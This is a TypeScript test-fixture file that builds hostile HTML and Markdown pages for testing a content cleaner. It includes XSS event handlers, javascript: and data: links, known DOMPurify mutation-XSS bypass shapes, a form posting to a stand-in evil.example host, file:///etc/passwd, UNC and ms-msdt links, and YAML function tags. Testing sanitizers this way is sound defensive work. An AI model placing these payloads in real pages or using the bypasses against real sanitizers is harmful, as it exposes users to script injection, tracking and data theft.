/**
 * Contents of the hostile and odd-markup files of the bad-input corpus (SECURITY.md §5.5, rows
 * 1–6 and 24, plus an all-boilerplate page). Each hostile payload sits inside a plausible
 * article, so the cleaner keeps a body around it and the test sees what survives into `html`.
 */

const LOREM_ZH = '市议会周二以七票对两票通过了明年的财政预算,其中教育和公共交通的拨款比去年增加了百分之六。议员们在长达四个小时的辩论中,就住房补贴和道路维修的优先顺序产生了明显分歧。';
const LOREM_EN = 'The council approved next year’s budget on Tuesday by seven votes to two, raising spending on schools and public transport by six per cent after a four-hour debate over housing subsidies and road repairs.';

/** A few paragraphs of ordinary article text, so hostile markup has a body to hide in. */
export const articleParagraphs = (n: number, lang: 'zh' | 'en' = 'en'): string[] =>
  Array.from({ length: n }, (_, i) => `${lang === 'zh' ? LOREM_ZH : LOREM_EN} (${i + 1})`);

const html = (title: string, body: string, head = ''): string =>
  `<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>${title}</title>${head}</head>\n<body>\n${body}\n</body></html>\n`;

const p = (s: string): string => `<p>${s}</p>`;

export const SCRIPT_HANDLERS = html(
  'Council passes budget',
  `<article onclick="alert('article')">
<h1 onmouseover="alert('h1')">Council passes budget</h1>
<script>parent.postMessage('pwned', '*'); console.log('ran');</script>
${p(`${articleParagraphs(1)[0]} <img src="x" onerror="alert('img')"> Officials said the vote ended months of argument.`)}
<p><input onfocus="alert('focus')" autofocus>${articleParagraphs(2)[1]} See <a href="javascript:alert('js')">the minutes</a>, <a href="JaVaScRiPt&#58;alert('mixed')">the agenda</a> and <a href="  java&#x09;script:alert('tab')">the video</a>.</p>
<svg onload="alert('svg')"><circle r="4"></circle></svg>
<p>Read <a href="https://example.com/budget" onclick="alert('click')">the full budget</a> <b onmouseover="alert('b')">online</b>.</p>
${p(articleParagraphs(3)[2]!)}
<body onload="alert('second body')"><iframe src="javascript:alert('frame')"></iframe>
</article>`,
  `<script src="https://evil.example/x.js"></script><style>body{background:url(https://evil.example/bg.png)}</style>`,
);

export const EMBEDS = html(
  'Embeds',
  `<article><h1>Embeds everywhere</h1>
${p(articleParagraphs(1)[0]!)}
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.postMessage('srcdoc','*')</script>"></iframe>
<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>
<embed src="https://evil.example/x.swf">
<portal src="https://evil.example/portal"></portal>
${articleParagraphs(3).slice(1).map(p).join('\n')}
</article>`,
);

/** Known DOMPurify/mXSS bypass shapes: namespace confusion, raw-text elements, mis-nesting. */
export const MXSS = html(
  'mXSS',
  `<article><h1>Parser differentials</h1>
${p(articleParagraphs(1)[0]!)}
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(2)>">
<noscript><p title="</noscript><img src=x onerror=alert(3)>"></noscript>
<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(4)' /&gt;&lt;/svg&gt;#x" /></svg>
<map name="m"><area href="javascript:alert(5)" shape="default"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<.a<iframe src="javascript:alert(6)">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(7) src>">
<math><mi><table><mi><style><!--</style><img src onerror=alert(8)>--></style></mi></table></mi></math>
<svg><foreignObject><p onclick="alert(9)">foreign paragraph</p></foreignObject></svg>
${articleParagraphs(3).slice(1).map(p).join('\n')}
</article>`,
);

export const META_REFRESH_BASE_FORM = html(
  'Refresh, base, form',
  `<article><h1>Forms and redirects</h1>
${p(articleParagraphs(1)[0]!)}
<form action="https://evil.example/collect" method="post"><input name="q" autofocus><button formaction="javascript:alert(1)">Send</button></form>
${articleParagraphs(3).slice(1).map(p).join('\n')}
</article>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">`,
);

export const REMOTE_AND_LOCAL_REFS = html(
  'Remote references',
  `<article><h1>References out of the page</h1>
${p(articleParagraphs(1)[0]!)}
<figure><img src="https://evil.example/track.png" alt="tracking pixel"><figcaption>A remote image</figcaption></figure>
<img src="\\\\attacker\\share\\a.png"><img src="file:///etc/passwd"><img srcset="https://evil.example/a.png 2x">
<div style="background:url(https://evil.example/bg.png)">${articleParagraphs(2)[1]}</div>
<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>
${p(articleParagraphs(3)[2]!)}
</article>`,
  `<link rel="preload" href="https://evil.example/font.woff2" as="font"><link rel="stylesheet" href="https://evil.example/s.css">
<style>@import url(https://evil.example/i.css); @font-face { font-family: x; src: url(https://evil.example/f.woff); }</style>`,
);

export const LINKS = html(
  'Links of every scheme',
  `<article><h1>Links of every scheme</h1>
${p(articleParagraphs(1)[0]!)}
<p>Links: <a href="file:///etc/passwd">file</a>, <a href="smb://attacker/share">smb</a>, <a href="ms-msdt:/id PCWDiagnostic">msdt</a>,
<a href="vscode://file/etc/passwd">vscode</a>, <a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a>, <a href="gleaner-custom://x">custom</a>,
<a href="https://user:pass@evil.example/">userinfo</a>, <a href="https://example.com/" target="_blank" rel="opener">new window</a>, <a href="mailto:editor@example.com">mail</a>,
<a href="\\\\attacker\\share">unc</a>.</p>
${articleParagraphs(3).slice(1).map(p).join('\n')}
</article>`,
);

export const MARKDOWN_ATTACKS = `---
title: !!js/function "function () { return process.exit(1) }"
evil: &a [*a]
date: 2021-05-20
---

# Markdown attacks

${articleParagraphs(1)[0]}

<script>alert('raw script')</script>

<img src="x" onerror="alert('img')">

A link [click me](javascript:alert('md')) and an image ![pic](data:text/html,<script>alert(1)</script>) inside a sentence.

<svg onload="alert('svg')"></svg><iframe srcdoc="<script>alert(1)</script>"></iframe>

${articleParagraphs(3).slice(1).join('\n\n')}

<!-- a comment that never closes
`;

/** A page with every kind of chrome and no article: the cleaner must say so, not invent a body. */
export const ALL_BOILERPLATE = html(
  '网易首页',
  `<div class="nav"><a href="/">首页</a> <a href="/news">新闻</a> <a href="/sports">体育</a> <a href="/ent">娱乐</a> <a href="/money">财经</a> <a href="/tech">科技</a></div>
<div class="breadcrumb">网易首页 &gt; 网易号 &gt; 正文</div>
<div class="hot"><h3>热搜</h3><a href="#">广州</a> <a href="#">SEO</a> <a href="#">贷款</a> <a href="#">深圳</a></div>
<div class="related"><h3>相关推荐</h3><ul>
<li><a href="/a1">在菲律宾部署中导后,美军转头赫然发现</a> 域观天下 2024-04-23 09:48:47</li>
<li><a href="/a2">石家庄楼市全军覆没,桥西区从16000元降至12000元</a> 有事问彭叔 2024-04-22 15:57:13</li>
<li><a href="/a3">一个月内,金壮龙两度南下</a> 政知新媒体 2024-04-22 20:35:16</li>
</ul></div>
<div class="share">0 分享至 微信 微博 QQ空间</div>
<p class="notice">特别声明:以上内容(如有图片或视频亦包括在内)为自媒体平台“网易号”用户上传并发布,本平台仅提供信息存储服务。</p>
<div class="footer">关于网易 | 联系我们 | 招聘信息 | 客户服务 | 隐私政策 | 网站地图 ©1997-2024 网易公司版权所有</div>`,
);
